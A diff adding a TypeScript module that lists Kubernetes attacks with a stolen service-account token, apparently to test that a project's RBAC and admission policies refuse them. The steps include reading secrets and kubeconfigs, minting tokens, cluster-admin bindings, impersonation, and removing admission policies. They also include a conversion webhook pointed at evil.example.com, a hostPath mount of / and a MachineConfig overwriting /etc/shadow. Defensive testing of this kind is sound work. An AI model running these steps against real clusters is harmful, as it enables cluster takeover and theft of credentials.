@@ -1,0 +1,299 @@
+/** What somebody tries with a stolen token, each attempt with the power of `pullwright rights` that it takes. */
+import {
+  type At,
+  type Attack,
+  applied,
+  changed,
+  made,
+  posted,
+  read,
+  reallyMade,
+  removed,
+} from './rights-requests.ts';
+
+const thief = { kind: 'ServiceAccount', name: 'thief', namespace: 'default' };
+
+/** Names of objects of ours that stand in the cluster: who may write one of them tries to. */
+export interface Present {
+  readonly policies: readonly string[];
+  readonly policyBindings: readonly string[];
+  readonly roles: readonly string[];
+}
+
+/** Namespaces with accounts or Secrets that are worth something. */
+export const NAMESPACES: readonly string[] = [
+  'kube-system',
+  'default',
+  'openshift-config',
+  'clusters-guest',
+  'pullwright-system',
+  'hyperfleet-system',
+];
+
+/** The Secret that stands in each of {@link NAMESPACES}. */
+export const FOREIGN = 'of-others';
+
+function ofNamespace(namespace: string): readonly Attack[] {
+  const secret = (name: string): At => ({ resource: 'secrets', namespace, name });
+  const token = {
+    apiVersion: 'v1',
+    kind: 'Secret',
+    metadata: { name: 'thief', namespace, annotations: { 'kubernetes.io/service-account.name': 'default' } },
+    type: 'kubernetes.io/service-account-token',
+  };
+  const pod = {
+    serviceAccountName: namespace === 'kube-system' ? 'clusterrole-aggregation-controller' : 'default',
+    // As PodSecurity wants it where it is strictest, so that only policies of ours are left to refuse it.
+    securityContext: { runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } },
+    containers: [
+      {
+        name: 'a',
+        image: 'registry.example.com/evil',
+        securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
+      },
+    ],
+  };
+  const template = { metadata: { labels: { a: 'b' } }, spec: pod };
+  const spec = { selector: { matchLabels: { a: 'b' } }, template };
+  const job = { template: { spec: { ...pod, restartPolicy: 'Never' } } };
+  const apps = (kind: string, resource: string): Attack =>
+    made({ group: 'apps/v1', resource, namespace }, 'run-pods', {
+      apiVersion: 'apps/v1',
+      kind,
+      metadata: { name: 'thief', namespace },
+      spec,
+    });
+  return [
+    read('get', secret(FOREIGN), 'read-secrets'),
+    read('list', { resource: 'secrets', namespace }, 'read-secrets'),
+    made(secret('thief'), 'write-secrets', token),
+    applied(secret('thief'), 'write-secrets', token),
+    changed(secret(FOREIGN), 'write-secrets', { data: null }),
+    removed(secret(FOREIGN), 'write-secrets'),
+    // Not as a dry run, which is what the one account that makes pods may do.
+    reallyMade({ resource: 'pods', namespace }, 'run-pods', {
+      apiVersion: 'v1',
+      kind: 'Pod',
+      metadata: { name: 'thief', namespace },
+      spec: pod,
+    }),
+    apps('Deployment', 'deployments'),
+    apps('DaemonSet', 'daemonsets'),
+    apps('StatefulSet', 'statefulsets'),
+    made({ group: 'batch/v1', resource: 'jobs', namespace }, 'run-pods', {
+      apiVersion: 'batch/v1',
+      kind: 'Job',
+      metadata: { name: 'thief', namespace },
+      spec: job,
+    }),
+    made({ group: 'batch/v1', resource: 'cronjobs', namespace }, 'run-pods', {
+      apiVersion: 'batch/v1',
+      kind: 'CronJob',
+      metadata: { name: 'thief', namespace },
+      spec: { schedule: '* * * * *', jobTemplate: { spec: job } },
+    }),
+    changed({ resource: 'namespaces', namespace, name: namespace }, 'write-namespaces', {
+      metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
+    }),
+    posted({ resource: 'serviceaccounts/token', namespace, name: 'default' }, 'mint-tokens', {
+      apiVersion: 'authentication.k8s.io/v1',
+      kind: 'TokenRequest',
+      spec: {},
+    }),
+    changed({ resource: 'serviceaccounts', namespace, name: 'default' }, 'write-accounts', {
+      secrets: [{ name: 'thief' }],
+    }),
+    read('get', { resource: 'pods/exec', namespace, name: 'a' }, 'exec'),
+    read('get', { resource: 'pods/portforward', namespace, name: 'a' }, 'reach-pods'),
+    changed({ resource: 'pods/ephemeralcontainers', namespace, name: 'a' }, 'exec', {}),
+    posted({ resource: 'pods/eviction', namespace, name: 'a' }, 'end-pods', {
+      apiVersion: 'policy/v1',
+      kind: 'Eviction',
+      metadata: { name: 'a', namespace },
+    }),
+    removed({ resource: 'pods', namespace, name: 'a' }, 'end-pods'),
+    applied({ resource: 'configmaps', namespace, name: 'aws-auth' }, 'write-config', {
+      apiVersion: 'v1',
+      kind: 'ConfigMap',
+      metadata: { name: 'aws-auth', namespace },
+    }),
+    ...['cluster-admin', 'admin', 'edit'].map((role) => bound(namespace, 'thief', role)),
+    made({ group: 'rbac.authorization.k8s.io/v1', resource: 'roles', namespace }, 'write-roles', {
+      apiVersion: 'rbac.authorization.k8s.io/v1',
+      kind: 'Role',
+      metadata: { name: 'thief', namespace },
+      rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
+    }),
+  ];
+}
+
+function bound(namespace: string | undefined, name: string, role: string): Attack {
+  const resource = namespace === undefined ? 'clusterrolebindings' : 'rolebindings';
+  const at: At = {
+    group: 'rbac.authorization.k8s.io/v1',
+    resource,
+    name,
+    ...(namespace === undefined ? {} : { namespace }),
+  };
+  return applied(at, 'write-bindings', {
+    apiVersion: 'rbac.authorization.k8s.io/v1',
+    kind: namespace === undefined ? 'ClusterRoleBinding' : 'RoleBinding',
+    metadata: { name, ...(namespace === undefined ? {} : { namespace }) },
+    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
+    subjects: [thief],
+  });
+}
+
+const ALL = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }];
+
+/** Who has all rights, and who has many. */
+const IMPERSONATED: readonly (Pick<Attack, 'resource' | 'namespace' | 'name'> & { readonly as: string })[] = [
+  { resource: 'users', name: 'system:kube-controller-manager', as: 'system:kube-controller-manager' },
+  ...(
+    [
+      ['kube-system', 'clusterrole-aggregation-controller'],
+      ['pullwright-system', 'pullwright-reconciler'],
+    ] as const
+  ).map(([namespace, name]) => ({
+    resource: 'serviceaccounts',
+    namespace,
+    name,
+    as: `system:serviceaccount:${namespace}:${name}`,
+  })),
+];
+
+/** Secrets that accounts of ours read by name. */
+const NAMED_SECRETS = [
+  ['openshift-config', 'pull-secret'],
+  ['kube-system', 'additional-pull-secret'],
+  ['clusters-guest', 'pull-secret'],
+  ['clusters-guest', 'pullwright-kubeconfig'],
+  ['clusters-guest', 'admin-kubeconfig'],
+] as const;
+
+/** Bindings that accounts of ours write by name. */
+const BINDINGS = [
+  [undefined, 'global-pull-secret-syncer'],
+  ['kube-system', 'global-pull-secret-syncer'],
+  ['openshift-config', 'global-pull-secret-syncer'],
+  ['kube-system', 'pullsecret-adapter-job'],
+  ['clusters-guest', 'pullsecret-adapter-job'],
+] as const;
+
+function ofCluster({ policies, policyBindings, roles }: Present): readonly Attack[] {
+  const admission = 'admissionregistration.k8s.io/v1';
+  const guards = [
+    ...policies.map((name) => ['validatingadmissionpolicies', name, { spec: { validations: [] } }] as const),
+    ...policyBindings.map(
+      (name) =>
+        ['validatingadmissionpolicybindings', name, { spec: { validationActions: ['Audit'] } }] as const,
+    ),
+  ].flatMap(([resource, name, body]) => [
+    removed({ group: admission, resource, name }, 'change-admission'),
+    changed({ group: admission, resource, name }, 'change-admission', body),
+  ]);
+  return [
+    ...guards,
+    ...['cluster-admin', 'admin', 'edit', 'system:controller:clusterrole-aggregation-controller'].map(
+      (role) => bound(undefined, 'thief', role),
+    ),
+    ...[...roles, 'thief'].map((name) =>
+      applied({ group: 'rbac.authorization.k8s.io/v1', resource: 'clusterroles', name }, 'write-roles', {
+        apiVersion: 'rbac.authorization.k8s.io/v1',
+        kind: 'ClusterRole',
+        metadata: { name },
+        rules: ALL,
+      }),
+    ),
+    ...IMPERSONATED.map(
+      ({ as, ...at }): Attack => ({
+        ...at,
+        verb: 'impersonate',
+        power: 'impersonate',
+        method: 'GET',
+        path: '/api/v1/secrets',
+        as,
+      }),
+    ),
+    ...NAMED_SECRETS.map(([namespace, name]) =>
+      read('get', { resource: 'secrets', namespace, name }, 'read-secrets'),
+    ),
+    ...BINDINGS.map(([namespace, name]) => bound(namespace, name, 'cluster-admin')),
+    ...['mutatingadmissionpolicies', 'mutatingadmissionpolicybindings'].map((resource) =>
+      removed({ group: admission, resource, name: 'pullwright-pull-secret-injection' }, 'change-admission'),
+    ),
+    changed(
+      { group: admission, resource: 'mutatingwebhookconfigurations', name: 'pullwright-webhook' },
+      'change-admission',
+      {},
+    ),
+    made({ group: admission, resource: 'mutatingwebhookconfigurations' }, 'change-admission', {
+      apiVersion: admission,
+      kind: 'MutatingWebhookConfiguration',
+      metadata: { name: 'thief' },
+    }),
+    made({ group: admission, resource: 'validatingadmissionpolicies' }, 'change-admission', {
+      apiVersion: admission,
+      kind: 'ValidatingAdmissionPolicy',
+      metadata: { name: 'thief' },
+    }),
+    changed(
+      { group: 'certificates.k8s.io/v1', resource: 'certificatesigningrequests/approval', name: 'thief' },
+      'approve-certificates',
+      {},
+    ),
+    made({ group: 'apiregistration.k8s.io/v1', resource: 'apiservices' }, 'write-api-services', {}),
+    changed(
+      {
+        group: 'apiextensions.k8s.io/v1',
+        resource: 'customresourcedefinitions',
+        name: 'pullstatuses.pullwright.dev',
+      },
+      'write-definitions',
+      {
+        spec: {
+          conversion: {
+            strategy: 'Webhook',
+            webhook: {
+              clientConfig: { url: 'https://evil.example.com/' },
+              conversionReviewVersions: ['v1'],
+            },
+          },
+        },
+      },
+    ),
+    made({ resource: 'persistentvolumes' }, 'write-volumes', {
+      apiVersion: 'v1',
+      kind: 'PersistentVolume',
+      metadata: { name: 'thief' },
+      spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' } },
+    }),
+    read('get', { resource: 'nodes/proxy', name: 'n1' }, 'node-proxy'),
+    changed({ resource: 'nodes', name: 'n1' }, 'write-nodes', { spec: { unschedulable: true } }),
+    changed({ resource: 'nodes/status', name: 'n1' }, 'write-nodes', { status: {} }),
+    removed({ resource: 'nodes', name: 'n1' }, 'write-nodes'),
+    ...['99-thief', '97-worker-generated-credentialproviderconfig'].map((name) =>
+      applied(
+        { group: 'machineconfiguration.openshift.io/v1', resource: 'machineconfigs', name },
+        'write-machine-configs',
+        {
+          apiVersion: 'machineconfiguration.openshift.io/v1',
+          kind: 'MachineConfig',
+          metadata: { name, labels: { 'machineconfiguration.openshift.io/role': 'worker' } },
+          spec: {
+            config: {
+              ignition: { version: '3.5.0' },
+              storage: { files: [{ path: '/etc/shadow', contents: { source: 'data:,' } }] },
+            },
+          },
+        },
+      ),
+    ),
+    read('list', { resource: 'secrets' }, 'read-secrets'),
+  ];
+}
+
+/** The whole table. */
+export function attacksOn(present: Present): readonly Attack[] {
+  return [...NAMESPACES.flatMap(ofNamespace), ...ofCluster(present)];
+}
